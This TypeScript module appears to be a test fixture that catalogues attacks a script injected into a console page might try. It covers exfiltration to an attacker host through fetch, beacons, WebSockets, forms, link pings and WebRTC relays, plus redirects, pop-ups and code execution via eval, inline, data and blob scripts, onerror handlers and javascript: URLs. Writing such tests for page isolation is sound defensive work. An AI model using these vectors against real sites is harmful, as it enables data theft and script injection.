/** What a script does that got into the console's page: each runs in the page alone, and knows nothing of this file. */
export interface PageAttack {
  readonly name: string;
  /** What the attacker's machine notes where it succeeds. */
  readonly mark: string;
  readonly run: (given: { readonly to: string; readonly detail: string }) => unknown;
  readonly detail: string;
}

const attack = (name: string, mark: string, run: PageAttack['run'], detail = ''): PageAttack => ({
  ...{ name, mark, run, detail },
});
/** The same with several tags, relations or protocols; each marks itself by its own name. */
const each = (details: readonly string[], run: PageAttack['run']): readonly PageAttack[] =>
  details.map((detail) => attack(detail, `/${detail}`, run, detail));

/** Ways to bring something out of the page, or into it. `to` is `http://host:port` of the attacker. */
export const waysOut: readonly PageAttack[] = [
  attack('fetch', '/fetch', ({ to }) => fetch(`${to}/fetch`)),
  attack('fetch without CORS', '/opaque', ({ to }) => fetch(`${to}/opaque`, { mode: 'no-cors' })),
  attack('XMLHttpRequest', '/xhr', ({ to }) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${to}/xhr`);
    request.send();
  }),
  attack('WebSocket', '/socket', ({ to }) => void new WebSocket(`${to.replace('http', 'ws')}/socket`)),
  attack('EventSource', '/events', ({ to }) => void new EventSource(`${to}/events`)),
  attack('beacon', '/beacon', ({ to }) => navigator.sendBeacon(`${to}/beacon`, 'secret')),
  attack('worker from a blob', '/blob', ({ to }) => {
    void new Worker(URL.createObjectURL(new Blob([`fetch('${to}/blob', { mode: 'no-cors' })`])));
  }),
  ...each(['img', 'iframe', 'audio', 'embed', 'script'], ({ to, detail }) => {
    document.body.append(
      Object.assign(document.createElement(detail), { src: `${to}/${detail}`, preload: 'auto' }),
    );
  }),
  ...each(['stylesheet', 'prefetch', 'preload', 'modulepreload'], ({ to, detail }) => {
    const link = {
      rel: detail,
      as: detail === 'modulepreload' ? 'script' : 'image',
      href: `${to}/${detail}`,
    };
    document.head.append(Object.assign(document.createElement('link'), link));
  }),
  attack('object', '/object', ({ to }) => {
    document.body.append(Object.assign(document.createElement('object'), { data: `${to}/object` }));
  }),
  attack('background of a style', '/background', ({ to }) => {
    document.body.style.backgroundImage = `url(${to}/background)`;
  }),
  attack('font', '/font', ({ to }) => new FontFace('stolen', `url(${to}/font)`).load()),
  attack('form', '/form', ({ to }) => {
    const form = Object.assign(document.createElement('form'), { action: `${to}/form`, method: 'post' });
    document.body.append(form);
    form.submit();
  }),
  attack('ping of a link', '/ping', ({ to }) => {
    const link = Object.assign(document.createElement('a'), { href: '#ping', ping: `${to}/ping` });
    document.body.append(link);
    link.click();
  }),
  ...each(['stun', 'turn'], async ({ to, detail }) => {
    const urls = detail === 'stun' ? `stun:${new URL(to).host}` : `turn:${new URL(to).host}?transport=tcp`;
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] });
    peer.createDataChannel('out');
    // The end of its search, or the first way that it found; a relay that does not answer is never given up here.
    const answered = new Promise<void>((done) => {
      peer.onicecandidate = () => done();
      if (detail === 'turn') requestIdleCallback(() => done());
    });
    await peer.setLocalDescription(await peer.createOffer());
    await answered;
  }),
];

/** Ways to leave the console for another page. */
export const waysAway: readonly PageAttack[] = [
  attack('location', '/location', ({ to }) => {
    location.href = `${to}/location`;
  }),
  attack('location.replace', '/replace', ({ to }) => location.replace(`${to}/replace`)),
  attack('a link', '/link', ({ to }) => {
    const link = Object.assign(document.createElement('a'), { href: `${to}/link` });
    document.body.append(link);
    link.click();
  }),
  attack('meta refresh', '/refresh', ({ to }) => {
    const meta = { httpEquiv: 'refresh', content: `0;url=${to}/refresh` };
    document.head.append(Object.assign(document.createElement('meta'), meta));
  }),
  attack('a base that leads elsewhere', '/base/page', ({ to }) => {
    document.head.prepend(Object.assign(document.createElement('base'), { href: `${to}/base/` }));
    const link = document.createElement('a');
    link.setAttribute('href', 'page');
    document.body.append(link);
    link.click();
  }),
];

/** Ways to open a window of one's own. */
export const waysToOpen: readonly PageAttack[] = [
  attack('window.open', '/open', ({ to }) => void window.open(`${to}/open`)),
  attack('a link with a target', '/target', ({ to }) => {
    const link = Object.assign(document.createElement('a'), { href: `${to}/target`, target: '_blank' });
    document.body.append(link);
    link.click();
  }),
];

/** Ways to run a text as code; the text notes that it ran as `document.title`. */
export const waysToRun: readonly PageAttack[] = [
  // A debugger's evaluation may use eval where the page may not: a timer is the page's own again.
  attack('eval', 'eval', () => {
    setTimeout(() => void (0, eval)('document.title = "ran eval"'));
  }),
  attack('Function', 'function', () => {
    // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- what is tried
    setTimeout(() => void new Function('document.title = "ran function"')());
  }),
  attack('a timer with a text', 'timer', () => {
    setTimeout(() => void (setTimeout as (code: string) => number)('document.title = "ran timer"'));
  }),
  attack('inline script', 'inline', () => {
    const script = document.createElement('script');
    script.textContent = 'document.title = "ran inline"';
    document.body.append(script);
  }),
  attack('script from data', 'data', () => {
    const src = 'data:text/javascript,document.title = "ran data"';
    document.body.append(Object.assign(document.createElement('script'), { src }));
  }),
  attack('script from a blob', 'blob', () => {
    const src = URL.createObjectURL(new Blob(['document.title = "ran blob"'], { type: 'text/javascript' }));
    document.body.append(Object.assign(document.createElement('script'), { src }));
  }),
  attack('handler in markup', 'handler', () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="document.title = \'ran handler\'">');
  }),
  attack('javascript: address', 'address', () => {
    const link = document.createElement('a');
    link.setAttribute('href', 'javascript:void (document.title = "ran address")');
    document.body.append(link);
    link.click();
  }),
  attack('script of a frame', 'frame', () => {
    const srcdoc = '<script>parent.document.title = "ran frame"</script>';
    document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }));
  }),
];
